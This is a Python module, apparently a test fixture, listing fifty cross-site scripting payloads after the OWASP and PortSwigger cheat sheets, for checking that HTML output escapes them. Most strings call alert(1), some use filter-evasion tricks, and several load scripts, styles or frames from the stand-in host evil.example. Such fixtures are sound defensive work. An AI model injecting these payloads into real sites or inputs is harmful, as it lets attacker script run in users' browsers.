"""Fifty texts that a page of HTML must show and not obey; each would call ``alert``, load, or send something.

After the collections of OWASP (Cross Site Scripting Prevention and XSS Filter Evasion cheat sheets) and of
PortSwigger (XSS cheat sheet).
"""

from __future__ import annotations

__all__ = ["INJECTIONS"]

INJECTIONS = (
    "<script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script/src=https://evil.example/a.js></script>",
    '<script src="data:text/javascript,alert(1)"></script>',
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<image href=https://evil.example/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=https://evil.example/a.svg#x></use></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<body onload=alert(1)>",
    "<body background=https://evil.example/a.png>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/a.swf></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>body{background:url(https://evil.example/a.png)}</style>",
    '<p style="background:url(https://evil.example/a.png)">x</p>',
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus onfocus=alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=https://evil.example/a.png></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<x contenteditable autofocus onfocus=alert(1) tabindex=1>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)
